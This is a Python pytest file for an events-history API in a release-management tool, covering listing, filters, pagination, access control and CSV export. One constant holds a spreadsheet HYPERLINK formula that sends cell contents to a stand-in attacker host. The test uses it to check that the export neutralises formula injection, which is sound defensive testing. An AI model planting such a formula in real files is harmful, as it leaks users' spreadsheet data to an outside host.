"""GET /api/events/: every recorded move as one list, newest first, in one row shape, a page at
a time or as CSV.

The history is made the way the product makes it: a pick requested and approved through the
services, a karma change through karma's service, a push's step through `push_state_move`;
freezes and a rollback are recorded as their services record them (their rows).
"""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest

from karma.services import karma_unlike
from pushes import services
from pushes.api.people import csv_cell
from pushes.choices import PushState
from pushes.models import FreezeWindow, Push, Repository, Rollback
from pushes.services.push_states import push_state_move
from tests.api import assert_error, client_for
from tests.pushes.conftest import MONDAY

HOUR = dt.timedelta(hours=1)
UTC_MONDAY = MONDAY.astimezone(dt.UTC)
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def history(monday, rel, alice, bob, repository, branch, landed):
    """One move an hour from Monday 10:00 in Los Angeles (18:00 UTC), newest last."""
    monday.move_to(MONDAY, tick=False)
    pick = services.pick_request(requestor=alice, revision=landed["fix"], reason="+1 crash").pick
    monday.move_to(MONDAY + HOUR, tick=False)
    services.pick_approve(pick_id=pick.pk, actor=rel, reason="-looks safe")
    monday.move_to(MONDAY + 2 * HOUR, tick=False)
    karma_unlike(user_id=bob.user_id, actor_id=rel.user_id, reason="@here late", pick_id=pick.pk)
    monday.move_to(MONDAY + 3 * HOUR, tick=False)
    pushes = list(branch.pushes.order_by("scheduled_at")[:2])
    push_state_move(
        push_id=pushes[0].pk,
        to=PushState.CONFIRMING,
        from_states=[PushState.SCHEDULED],
        actor=rel,
        reason="Confirmations open",
    )
    window = FreezeWindow.objects.create(
        repository=repository,
        starts_at=MONDAY + 4 * HOUR,
        ends_at=MONDAY + 5 * HOUR,
        reason="Incident 42",
        created_by=rel,
        lifted_by=rel,
    )
    Push.objects.filter(pk=pushes[0].pk).update(tag="release/1.1")
    Push.objects.filter(pk=pushes[1].pk).update(tag="release/1.2")
    Rollback.objects.create(
        push=pushes[1], to_push=pushes[0], actor=rel, at=MONDAY + 6 * HOUR, reason=FORMULA
    )
    return {"pick": pick, "push": pushes[0], "rolled_back": pushes[1], "freeze": window}


def moves(body: dict) -> list[str]:
    return [row["move"] for row in body["results"]]


def utc(at: dt.datetime) -> str:
    return at.astimezone(dt.UTC).isoformat().replace("+00:00", "Z")


# --- one list -----------------------------------------------------------------------------


def test_every_source_is_read_into_one_list_newest_first(alice, history):
    body = client_for(alice).get("/api/events/").json()
    assert body["count"] == 7
    assert moves(body) == [
        "rollback",
        "unfreeze",
        "freeze",
        "confirming",
        "unlike",
        "approved",
        "requested",
    ]
    rollback, unfreeze, freeze, confirming, unlike, approved, requested = body["results"]
    pick, push = history["pick"], history["push"]
    assert rollback == {
        "at": utc(MONDAY + 6 * HOUR),
        "repository": "shop",
        "actor": "rel",
        "move": "rollback",
        "target": "push",
        "target_id": str(history["rolled_back"].pk),
        "from_state": "release/1.2",
        "to_state": "release/1.1",
        "reason": FORMULA,
    }
    assert (unfreeze["at"], unfreeze["target"], unfreeze["target_id"]) == (
        utc(MONDAY + 5 * HOUR),
        "repository",
        "shop",
    )
    assert (freeze["at"], freeze["actor"], freeze["reason"]) == (
        utc(MONDAY + 4 * HOUR),
        "rel",
        "Incident 42",
    )
    assert (confirming["target"], confirming["target_id"]) == ("push", str(push.pk))
    assert (confirming["from_state"], confirming["to_state"]) == ("scheduled", "confirming")
    # Karma's change: about bob, in the repository of the pick it names, stars before and after.
    assert {k: unlike[k] for k in ("repository", "actor", "target", "target_id")} == {
        "repository": "shop",
        "actor": "rel",
        "target": "engineer",
        "target_id": "bob",
    }
    assert (unlike["from_state"], unlike["to_state"]) == ("5", "4")
    assert (approved["actor"], approved["from_state"], approved["reason"]) == (
        "rel",
        "requested",
        "-looks safe",
    )
    assert (requested["target_id"], requested["from_state"]) == (str(pick.pk), None)
    assert requested["at"] == utc(MONDAY)


def test_a_karma_change_about_no_pick_has_no_repository(alice, rel, bob, history):
    karma_unlike(user_id=alice.user_id, actor_id=rel.user_id, reason="Missed the push")
    body = client_for(bob).get("/api/events/", {"move": "unlike"}).json()
    assert [(row["target_id"], row["repository"]) for row in body["results"]] == [
        ("alice", None),
        ("bob", "shop"),
    ]


def test_it_is_paginated_like_every_list(alice, history, django_assert_max_num_queries):
    client = client_for(alice)
    with django_assert_max_num_queries(3):  # who is asking, the count, the page
        first = client.get("/api/events/", {"limit": 3}).json()
    second = client.get(first["next"]).json()
    assert (first["count"], moves(first)) == (7, ["rollback", "unfreeze", "freeze"])
    assert moves(second) == ["confirming", "unlike", "approved"]


# --- filters ------------------------------------------------------------------------------


def test_since_and_until_take_iso_8601_times_with_or_without_an_offset(alice, history):
    client = client_for(alice)
    since = client.get("/api/events/", {"since": utc(MONDAY + 4 * HOUR)}).json()
    assert moves(since) == ["rollback", "unfreeze", "freeze"]
    until = client.get("/api/events/", {"until": (MONDAY + HOUR).isoformat()}).json()
    assert moves(until) == ["requested"]  # before it: the approval at that hour is not
    both = client.get(
        "/api/events/",
        {"since": "2026-11-23T19:00:00", "until": "2026-11-23T21:00"},  # UTC, the site's zone
    ).json()
    assert moves(both) == ["unlike", "approved"]


def test_repository_actor_and_move_each_narrow_the_list(alice, history):
    client = client_for(alice)
    Repository.objects.create(slug="docs", name="Docs", remote_url="/nowhere")
    assert client.get("/api/events/", {"repository": "docs"}).json()["count"] == 0
    assert client.get("/api/events/", {"repository": "shop"}).json()["count"] == 7
    assert moves(client.get("/api/events/", {"actor": "alice"}).json()) == ["requested"]
    assert client.get("/api/events/", {"actor": "rel"}).json()["count"] == 6
    assert moves(client.get("/api/events/", {"move": "approved"}).json()) == ["approved"]
    assert moves(client.get("/api/events/", {"move": "freeze"}).json()) == ["freeze"]
    assert client.get("/api/events/", {"move": "shipped"}).json()["count"] == 0
    mixed = client.get("/api/events/", {"actor": "rel", "move": "unlike", "repository": "shop"})
    assert moves(mixed.json()) == ["unlike"]


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"since": "yesterday"}, "since"),
        ({"until": "2026-13-01T00:00:00Z"}, "until"),
        ({"move": "dance"}, "move"),
        ({"repository": "not a slug"}, "repository"),
        ({"format": "xml"}, "format"),
        ({"limit": "0"}, "limit"),
    ],
)
def test_a_bad_filter_is_a_400_in_the_error_shape(alice, history, params, field):
    body = assert_error(client_for(alice).get("/api/events/", params), 400, "invalid")
    assert body["message"].startswith(f"{field}: ")
    assert list(body["details"]) == [field]


def test_only_engineers_read_the_events(client, django_user_model, history):
    assert_error(client.get("/api/events/"), 401, "not-authenticated")
    root = django_user_model.objects.create_superuser("root", password="root")
    client.force_login(root)
    assert_error(client.get("/api/events/"), 403, "not-an-engineer")


# --- CSV ----------------------------------------------------------------------------------


def read_csv(response) -> list[list[str]]:
    text = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(text)))


def test_csv_gives_every_matching_row_under_a_header_without_pagination(alice, history):
    response = client_for(alice).get("/api/events/", {"format": "csv", "limit": 1})
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response.streaming
    header, *rows = read_csv(response)
    assert header == [
        "at",
        "repository",
        "actor",
        "move",
        "target",
        "target_id",
        "from_state",
        "to_state",
        "reason",
    ]
    assert [row[3] for row in rows] == moves(client_for(alice).get("/api/events/").json())
    assert rows[3] == [
        utc(MONDAY + 3 * HOUR),
        "shop",
        "rel",
        "confirming",
        "push",
        str(history["push"].pk),
        "scheduled",
        "confirming",
        "Confirmations open",
    ]
    assert rows[-1][6] == ""  # no state before the request: an empty cell


def test_csv_keeps_the_filters(alice, history):
    response = client_for(alice).get("/api/events/", {"format": "csv", "actor": "alice"})
    assert [row[3] for row in read_csv(response)[1:]] == ["requested"]


def test_csv_cells_a_spreadsheet_would_run_as_formulas_are_quoted(alice, rel, history):
    karma_unlike(user_id=alice.user_id, actor_id=rel.user_id, reason="=1+1")
    rows = read_csv(client_for(alice).get("/api/events/?format=csv"))[1:]
    reasons = [(row[3], row[8]) for row in rows]
    assert ("rollback", "'" + FORMULA) in reasons
    assert ("approved", "'-looks safe") in reasons
    assert ("unlike", "'@here late") in reasons
    assert ("unlike", "'=1+1") in reasons
    assert ("freeze", "Incident 42") in reasons
    # Some spreadsheets skip a tab or carriage return before a formula: quoted too.
    assert [csv_cell(v) for v in ("\t=1", "\r+1", "a=1", "", None, 42)] == [
        "'\t=1",
        "'\r+1",
        "a=1",
        "",
        "",
        "42",
    ]


def test_a_bad_filter_with_csv_asked_is_still_refused_as_json(alice, history):
    response = client_for(alice).get("/api/events/", {"format": "csv", "since": "soon"})
    assert response["Content-Type"] == "application/json"
    assert_error(response, 400, "invalid")


# --- the schema ---------------------------------------------------------------------------


def test_the_schema_documents_the_json_page_and_the_csv(alice):
    schema = client_for(alice).get("/api/schema/", {"format": "json"}).json()
    events = schema["paths"]["/api/events/"]["get"]
    content = events["responses"]["200"]["content"]
    assert set(content) == {"application/json", "text/csv"}
    assert content["text/csv"]["schema"]["type"] == "string"
    names = {parameter["name"] for parameter in events["parameters"]}
    assert names == {"since", "until", "repository", "actor", "move", "format", "limit", "offset"}
    engineers = schema["paths"]["/api/engineers/"]["get"]
    assert {parameter["name"] for parameter in engineers["parameters"]} >= {"sort", "limit"}
    assert "400" in engineers["responses"] and "400" in events["responses"]
